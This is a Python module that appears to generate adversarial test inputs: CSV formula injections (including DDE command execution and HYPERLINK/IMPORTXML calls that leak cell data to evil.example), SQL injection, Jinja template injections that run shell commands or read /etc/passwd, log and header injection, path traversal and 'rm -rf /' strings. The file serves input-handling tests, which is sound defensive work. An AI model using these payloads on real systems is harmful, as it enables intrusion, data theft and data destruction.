"""Texts that are something else somewhere: formulas, statements, programs, markup, lines of a log."""

import random
from collections.abc import Iterator

LEADERS = [
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "＝",
    "＋",
    "－",
    "＠",
    "'=",
    "''@",
    " =",
    "\u00a0+",
    "\u200b=",
    "\x00=",
]
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "+7 (916) 123-45-67",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "{=1+1}",
    '"=1+1"',
    "_x003D_1+1",
    "_x000D_",
    "#N/A",
    "#REF!",
]
SQL = [
    "'; DROP TABLE lead; --",
    "' OR '1'='1",
    "1 OR 1=1",
    '"; DELETE FROM lead; --',
    "' UNION SELECT body FROM lead --",
    "%' OR 1=1 --",
    "%",
    "_",
    "\\",
    "%%%",
    "x' AND randomblob(1000000000) --",
    "1; ATTACH DATABASE '/tmp/x.db' AS x; --",
    "?1",
    ":name",
    "%(name)s",
]
TEMPLATES = [
    "{{ 7*7 }}",
    "{{ 'a'*10**9 }}",
    "{% for i in range(10**9) %}a{% endfor %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ self.__init__.__globals__ }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{ cycler.__init__.__globals__.os.system('id') }}",
    "{{ request.application }}",
    "{{ config }}",
    "{{ name.__class__ }}",
    "{{ name|attr('__class__') }}",
    "{{ 'a'.join(['b']*10**9) }}",
    "{{ 'a'.center(10**9) }}",
    "{{ '%1000000000s'|format('a') }}",
    "{{ 9**9**9 }}",
    "{{ 'a'|indent(10**9) }}",
    "{{ dict(a=1) }}",
    "{% set x = 'a' %}{{ x }}",
    "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
    "{% include '/etc/passwd' %}",
    "{% import 'os' as os %}",
    "{% extends 'x' %}",
    "{{ " + "(" * 90 + "name" + ")" * 90 + " }}",
    "{{ name " + "~ name" * 130 + " }}",
    "{%" + " if name %}" + "{% if name %}" * 60 + "{% endif %}" * 61,
    "#{7*7}",
    "${7*7}",
    "<%= 7*7 %>",
    "{0.__class__}",
    "{name.__class__.__mro__}",
    "%s%s%s%n",
]
LOGS = [
    '"}\n{"event": "the desk is closed", "level": "info"}',
    "x\r\n2026-01-01 [info] the desk is closed",
    "\x1b[2J\x1b[31mred",
    "\u2028new line\u2029and another",
    '", "level": "critical", "x": "',
    '\\n{"event":1}',
]
OTHERS = [
    "<b>x</b><a href='tg://user?id=1'>y</a>",
    "../../etc/passwd",
    "x\r\nX-Injected: 1",
    "$(reboot) `id` ; rm -rf / | cat",
    "\u202egnp.exe",
    "file:///etc/passwd",
    "[x](javascript:alert(1))",
    "@durov #tag /start",
    "\ufffe\uffff",
    "a\x00b",
]
CLASSIC = [*FORMULAS, *SQL, *TEMPLATES, *LOGS, *OTHERS]
PIECES = [*LEADERS, *CLASSIC, "1", "A1", "(", ")", ",", ";", '"', '""', "\n", "\r\n", "|", "Анна", "😀", " "]


def draw(dice: random.Random) -> Iterator[str]:
    """The classic ones first, then mixtures, for ever."""
    yield from CLASSIC
    while True:
        text = "".join(dice.choices(PIECES, k=dice.randint(1, 4)))
        if dice.random() < 0.3:
            at = dice.randrange(len(text) + 1)
            text = text[:at] + chr(dice.choice([*range(0xD800), *range(0xE000, 0x11000)])) + text[at:]
        yield text[:300]
